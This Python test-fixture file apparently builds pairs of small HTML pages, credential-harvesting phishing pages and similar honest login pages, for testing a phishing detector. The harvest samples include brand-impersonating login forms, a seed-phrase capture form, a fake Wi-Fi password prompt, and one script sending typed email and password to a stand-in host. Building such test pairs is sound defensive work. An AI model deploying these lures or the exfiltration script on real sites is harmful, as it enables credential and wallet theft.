"""Pairs that differ in little: a page that harvests and an honest one with the same parts. Each pair stands for a kind of
page that the check once got wrong."""

from layouts import centred, plain, with_nav

FIELDS = "<input name=mail placeholder='E-mail'><input type=password name=pw placeholder=Password><button>Continue</button>"
HOTLINKS = "".join(f"<img src='https://assets.brightwell-credit.invalid/{name}.png' alt=''>" for name in ("a", "b", "c", "d", "e"))


def harvest():
    yield "sign-01-file-of-a-logo", with_nav(
        "Sign in", f"<img src='img/google.png' alt=Logo><form method=post>{FIELDS}</form><p>Your session has expired.</p>")
    yield "sign-02-heading-using", centred(
        "Public Wi-Fi", f"<p>Get connected to the Internet for free.</p><h2>Login using Facebook</h2><form>{FIELDS}</form>")
    yield "sign-03-appended-to-address", centred(
        "Connexion", f"<div>{FIELDS}</div><script>function go(){{new Image().alt=0;"
        "load('http://10.0.0.1/?email='+encodeURIComponent(m.value)+'&password='+encodeURIComponent(p.value))}</script>")
    yield "sign-04-lead-french", centred("Page de connexion", f"<p>Se connecter à Twitch</p><form>{FIELDS}</form>", lang="fr")
    yield "sign-05-lead-swedish", centred("Inloggning", f"<p>Logga in på Spotify</p><form>{FIELDS}</form>", lang="sv")
    yield "sign-06-lead-indonesian", centred("Masuk", f"<p>Masuk ke Tokopedia</p><form>{FIELDS}</form>", lang="id")
    yield "sign-07-files-of-its-namesake", with_nav("Brightwell-Credit sign-in", f"{HOTLINKS}<form>{FIELDS}</form>")
    yield "sign-08-payment-line", centred("Welcome", f"<p>Log in to PayPal</p><form>{FIELDS}</form>")
    yield "sign-09-phrase-code", centred(
        "Add wallet", "<form action=data.php method=post><input name=app placeholder='Wallet app name'><input name=code placeholder='12 Phrase-Code'></form>")
    yield "sign-10-box-has-issues", centred(
        "Warning", "<p>Your box has some issues. Please enter your WIFI password to reset.</p><input type=password id=k placeholder='WIFI PASSWORD'>")


def honest():
    icons = "".join(f"<img src='icons/{name}.png' alt=''>" for name in ("google", "facebook", "github"))
    yield "login_demo-31-row-of-icons", centred("Fernleaf: sign in", f"<form onsubmit='return false'>{FIELDS}</form><p>or</p>{icons}")
    yield "login_demo-32-icon-in-button", centred(
        "Fernleaf: sign in", f"<form onsubmit='return false'>{FIELDS}</form><button><img src='google.png' alt=''> Google</button>")
    yield "login_demo-33-button-with", centred(
        "Fernleaf", f"<h2>Sign in</h2><form>{FIELDS}</form><button>Sign in with Facebook</button>")
    yield "login_demo-34-search-appended", centred(
        "Weather for members", f"<form onsubmit='return false'>{FIELDS}</form><script>fetch('https://weather.example.net/v1?city='+city.value)</script>")
    yield "login_demo-35-stream-link", centred(
        "Connexion", f"<form onsubmit='return false'>{FIELDS}</form><p><a href='https://fernleaf.example/live'>Suivez-nous à Twitch</a></p>", lang="fr")
    yield "login_demo-36-under-a-host", with_nav("forms.github.io – sign-in form for dashboards", f"<form>{FIELDS}</form>")
    yield "login_demo-37-own-cdn", with_nav(
        "Fernleaf sign-in", "".join(f"<img src='https://cdn.jsdelivr.net/{n}.png' alt=''>" for n in "abcde") + f"<form>{FIELDS}</form>")
    yield "payment_demo-31-pay-line", centred(
        "Fernleaf checkout", "<p>Pay with PayPal or card</p><form onsubmit='return false'><input name=card placeholder='Card number'><input name=cvc placeholder=CVC></form>")
    yield "game-31-world-seed", centred("Minecraft seed viewer", "<form><label>Seed <input name=seed></label><button>Show map</button></form>")
    yield "slides-31-support-quotes", plain(
        "Agency", "<blockquote>Good tech support is rare.</blockquote>" * 4 + "<a href='tel:+18005550100'>800 555 0100</a>")
    yield "gallery-31-video", plain("YouTube cover", "<h1>YouTube</h1><iframe src='https://www.youtube-nocookie.com/embed/0'></iframe>")
    yield "login_demo-38-share-counter", {
        "index.html": centred("Fernleaf kit", f"<form>{FIELDS}</form><script src=share.js></script>"),
        "share.js": "var share={url:'counter.php',tracking:false};$.ajax({url:'counter.php'})",
    }
